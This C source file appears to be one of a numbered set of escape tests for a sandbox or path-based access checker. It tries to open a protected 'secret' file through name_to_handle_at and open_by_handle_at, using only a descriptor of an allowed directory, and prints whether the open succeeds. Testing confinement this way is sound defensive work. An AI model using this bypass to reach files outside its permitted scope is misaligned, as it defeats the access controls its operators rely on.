/* e0305-open-by-handle - open the secret by file handle, with no path.
 *
 * Attack: name_to_handle_at() turns the secret's path into a handle;
 * open_by_handle_at() opens a handle with only a descriptor of any
 * directory on the same file system (a path that a checker would allow).
 * The handle is computed here if name_to_handle_at works, and is also
 * given by the driver (computed outside), as an attacker may learn it
 * elsewhere.  Needs CAP_DAC_READ_SEARCH natively (root).
 * Source: janus team (DESIGN.md aliases: open_by_handle_at).
 * Usage: e0305-open-by-handle SECRET MOUNT-DIR TYPE HEX */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "escape.h"

union handle {
	struct file_handle fh;
	char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int parse_handle(union handle *h, const char *type, const char *hex)
{
	size_t n = strlen(hex) / 2;
	if (n > MAX_HANDLE_SZ)
		return -EINVAL;
	h->fh.handle_type = (int)esc_number(type);
	h->fh.handle_bytes = (unsigned)n;
	for (size_t i = 0; i < n; i++) {
		unsigned v;
		if (sscanf(hex + 2 * i, "%2x", &v) != 1)
			return -EINVAL;
		h->fh.f_handle[i] = (unsigned char)v;
	}
	return 0;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 5, "e0305-open-by-handle SECRET MOUNT-DIR TYPE HEX");
	int mfd = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		esc_die(argv[2]);
	union handle own, given;
	int mount_id;
	own.fh.handle_bytes = MAX_HANDLE_SZ;
	long r = name_to_handle_at(AT_FDCWD, argv[1], &own.fh, &mount_id, 0);
	esc_show_result("name_to_handle_at SECRET", r);
	if (r == 0)
		esc_show_fd("open_by_handle_at of its own handle",
			    open_by_handle_at(mfd, &own.fh, O_RDONLY | O_CLOEXEC));
	if (parse_handle(&given, argv[3], argv[4]) < 0) {
		fprintf(stderr, "bad handle %s %s\n", argv[3], argv[4]);
		return 2;
	}
	esc_show_fd("open_by_handle_at of the given handle",
		    open_by_handle_at(mfd, &given.fh, O_RDONLY | O_CLOEXEC));
	return 0;
}
